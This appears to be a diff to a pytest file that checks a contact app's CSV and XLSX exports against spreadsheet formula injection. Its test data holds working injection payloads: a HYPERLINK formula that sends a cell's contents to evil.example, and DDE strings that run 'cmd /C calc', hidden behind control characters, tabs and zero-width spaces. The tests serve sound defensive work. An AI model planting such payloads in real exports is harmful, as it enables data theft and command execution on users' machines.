@@ -6,6 +6,8 @@ from __future__ import annotations
 import csv
 import datetime
 import io
+import re
+import zipfile
 from decimal import Decimal
 
 import pytest
@@ -13,8 +15,10 @@ import vobject
 from openpyxl import load_workbook
 
 from clientbase.contacts.models import Contact
-from clientbase.transfer.exporters import contacts_for_export, export_contacts
+from clientbase.transfer.exporters import contacts_for_export, csv_stream, export_contacts, write_xlsx
+from clientbase.transfer.formulas import clean, restore
 from clientbase.transfer.kinds import ContactKind
+from clientbase.transfer.readers import open_table
 from clientbase.transfer.services import import_file
 from clientbase.transfer.vcard import fold, vcard
 from tests.factories import ContactFactory
@@ -162,13 +166,17 @@ def test_round_trip_into_an_empty_database_recreates_the_contacts_exactly(admin_
     assert snapshot() == expected
 
 
-def test_xlsx_export_cells_are_text_and_guarded(admin_user, directory):
-    workbook = load_workbook(io.BytesIO(export(admin_user, "xlsx")), read_only=True)
-    rows = [list(row) for row in workbook.worksheets[0].iter_rows(values_only=True)]
+def test_xlsx_export_cells_are_typed_strings_shown_as_stored(admin_user, directory):
+    data = export(admin_user, "xlsx")
+    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
+    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
     assert rows[0] == list(ContactKind.columns)
-    title = rows[0].index("title")
-    assert "'" + PAYLOADS["title"] in [row[title] for row in rows[1:]]
-    assert all(isinstance(cell, str) or cell is None for row in rows for cell in row)
+    by_id = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
+    for column, payload in PAYLOADS.items():  # shown as typed, never run: no quote needed
+        assert by_id["E-3"][column] == payload
+    assert (by_id["E-1"]["phone"], by_id["E-1"]["mobile"]) == ("+13125550142", "+13125550199")
+    assert {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value is not None} == {"s"}
+    assert not FORMULA_ELEMENT.search(zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml"))
 
 
 def test_exports_only_what_the_user_may_see_filtered_like_the_list(
@@ -218,9 +226,77 @@ def test_long_vcard_lines_are_folded_without_splitting_letters(customer_with_two
     assert fold("x" * 75) == "x" * 75
 
 
-def test_xlsx_leaves_out_control_characters_it_cannot_hold(admin_user, customer_with_two_sites):
-    ContactFactory(customer=customer_with_two_sites[0], notes="bell\x07 and\ttab\nnewline")
+def test_exports_leave_out_control_characters_no_cell_can_hold(admin_user, customer_with_two_sites):
+    contact = ContactFactory(customer=customer_with_two_sites[0])
+    Contact.objects.filter(pk=contact.pk).update(notes="bell\x07 and\ttab\nnewline")  # stored before
     workbook = load_workbook(io.BytesIO(export(admin_user, "xlsx")), read_only=True)
     rows = list(workbook.worksheets[0].iter_rows(values_only=True))
     assert rows[1][list(ContactKind.columns).index("notes")] == "bell and\ttab\nnewline"
-    assert "\x07" in csv_rows(export(admin_user, "csv"))[1][-1]
+    assert csv_rows(export(admin_user, "csv"))[1][-1] == "bell and\ttab\nnewline"
+
+
+# Formula injection through characters before the formula -----------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+LEADING_VARIANTS = {
+    "control character": "\x01" + FORMULA,
+    "tab": "\t" + FORMULA,
+    "carriage return": "\r" + FORMULA,
+    "space": " " + FORMULA,
+    "NUL before plus": "\x00+1+cmd|' /C calc'!A0",
+    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "minus": "-2+3+cmd|' /C calc'!A0",
+    "equals": FORMULA,
+    "zero-width space": "\u200b" + FORMULA,
+}
+FORMULA_ELEMENT = re.compile(rb"<(?:\w+:)?f[\s/>]")
+
+
+def xlsx_of(rows) -> bytes:
+    out = io.BytesIO()
+    write_xlsx(rows, out)
+    return out.getvalue()
+
+
+def read_back(data: bytes) -> str:
+    """What an import reads from the file's first cell below the header."""
+    table = open_table(io.BytesIO(data))
+    return restore(next(table.records())[1][0])
+
+
+@pytest.mark.parametrize("text", LEADING_VARIANTS.values(), ids=LEADING_VARIANTS.keys())
+def test_xlsx_writes_every_text_as_a_string_cell_never_a_formula(text):
+    data = xlsx_of([["notes"], [text]])
+    assert not FORMULA_ELEMENT.search(zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml"))
+    cell = load_workbook(io.BytesIO(data)).worksheets[0]["A2"]
+    shown = clean(text).replace("\r", "\n")  # XML reads a carriage return as a line feed
+    assert cell.data_type == "s"
+    assert cell.value == shown
+    assert read_back(data) == shown
+
+
+@pytest.mark.parametrize("text", LEADING_VARIANTS.values(), ids=LEADING_VARIANTS.keys())
+def test_csv_guards_the_formula_behind_any_leading_character(text):
+    data = b"".join(csv_stream([["notes"], [text]]))
+    cell = csv_rows(data)[1][0]
+    assert cell == "'" + clean(text)
+    assert "\x00" not in cell and "\x01" not in cell
+    assert read_back(data) == clean(text)
+
+
+def test_the_contacts_export_guards_formulas_stored_with_a_control_character_before_them(
+    api, dispatcher, customer_with_two_sites
+):
+    contact = ContactFactory(customer=customer_with_two_sites[0], phone="+13125550142")
+    Contact.objects.filter(pk=contact.pk).update(title="\x01" + FORMULA)  # stored before it was refused
+    response = api(dispatcher).get("/api/v1/exports/contacts/", {"format": "xlsx"})
+    data = b"".join(response.streaming_content)
+    assert not FORMULA_ELEMENT.search(zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml"))
+    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
+    header = [cell.value for cell in sheet[1]]
+    title, phone = sheet.cell(2, header.index("title") + 1), sheet.cell(2, header.index("phone") + 1)
+    assert (title.value, title.data_type) == (FORMULA, "s")
+    assert (phone.value, phone.data_type) == ("+13125550142", "s")  # no quote before phone numbers
+    rows = csv_rows(b"".join(api(dispatcher).get("/api/v1/exports/contacts/").streaming_content))
+    assert rows[1][rows[0].index("title")] == "'" + FORMULA
+    assert rows[1][rows[0].index("phone")] == "'+13125550142"
